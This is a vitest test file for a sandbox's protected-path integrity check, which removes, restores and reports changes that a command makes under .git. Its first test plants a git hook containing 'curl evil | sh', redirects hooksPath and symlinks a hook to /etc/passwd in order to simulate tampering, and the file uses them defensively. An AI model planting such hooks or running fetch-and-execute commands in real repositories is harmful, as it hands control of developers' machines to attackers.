// The integrity check on its own (no sandbox needed): what a command created under a protected
// path is removed, what it changed or deleted is put back, and each fix is reported.
import { existsSync } from "node:fs";
import { chmod, mkdir, readFile, rm, stat, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { enforceProtected, snapshotProtected } from "../../../src/workspace/exec-sandbox/protected-paths.js";
import { type Fixture, makeFixture } from "./fixture.js";

let fx: Fixture;

beforeEach(async () => {
  fx = await makeFixture();
  await fx.write({
    ".git/HEAD": "ref: refs/heads/main\n",
    ".git/config": "[core]\n",
    ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
  });
});
afterEach(() => fx?.cleanup());

describe("protected path integrity", () => {
  it("removes new entries and restores changed, deleted and replaced ones", async () => {
    const policy = fx.policy();
    await chmod(join(fx.root, ".git/hooks/pre-commit.sample"), 0o755);
    const before = await snapshotProtected(policy);

    await writeFile(join(fx.root, ".git/hooks/pre-push"), "curl evil | sh\n");
    await writeFile(join(fx.root, ".git/config"), "[core]\n\thooksPath = /tmp\n");
    await rm(join(fx.root, ".git/hooks/pre-commit.sample"));
    await symlink("/etc/passwd", join(fx.root, ".git/hooks/pre-commit.sample"));
    await mkdir(join(fx.root, ".reson"));

    const warnings = await enforceProtected(policy, before);
    expect(warnings.sort()).toEqual([
      "removed .git/hooks/pre-push: the command created it under the protected .git/hooks",
      "removed .reson: the command created it, but .reson is protected",
      "restored .git/config: the command changed it, but it is protected",
      "restored .git/hooks/pre-commit.sample: the command changed it, but it is protected",
    ]);
    expect(await readFile(join(fx.root, ".git/config"), "utf8")).toBe("[core]\n");
    expect(await readFile(join(fx.root, ".git/hooks/pre-commit.sample"), "utf8")).toBe("#!/bin/sh\n");
    expect((await stat(join(fx.root, ".git/hooks/pre-commit.sample"))).mode & 0o777).toBe(0o755);
    expect(existsSync(join(fx.root, ".git/hooks/pre-push"))).toBe(false);
    expect(existsSync(join(fx.root, ".reson"))).toBe(false);
    // /etc/passwd was never touched: the link was replaced, not followed.
    expect(await readFile("/etc/passwd", "utf8")).toContain("root:");
  });

  it("recreates a protected folder the command deleted", async () => {
    const policy = fx.policy();
    const before = await snapshotProtected(policy);
    await rm(join(fx.root, ".git/hooks"), { recursive: true });
    const warnings = await enforceProtected(policy, before);
    expect(warnings).toContain("restored .git/hooks: the command changed it, but it is protected");
    expect(await readFile(join(fx.root, ".git/hooks/pre-commit.sample"), "utf8")).toBe("#!/bin/sh\n");
  });

  it("reports nothing when nothing changed", async () => {
    const policy = fx.policy();
    const before = await snapshotProtected(policy);
    expect(await enforceProtected(policy, before)).toEqual([]);
  });

  it("leaves a repository the command created whole (the holding folder did not exist)", async () => {
    await rm(join(fx.root, ".git"), { recursive: true });
    const policy = fx.policy();
    const before = await snapshotProtected(policy);
    await fx.write({
      ".git/HEAD": "ref: refs/heads/main\n",
      ".git/config": "[core]\n",
      ".git/hooks/x.sample": "",
    });
    expect(await enforceProtected(policy, before)).toEqual([]);
    expect(existsSync(join(fx.root, ".git/config"))).toBe(true);
  });
});
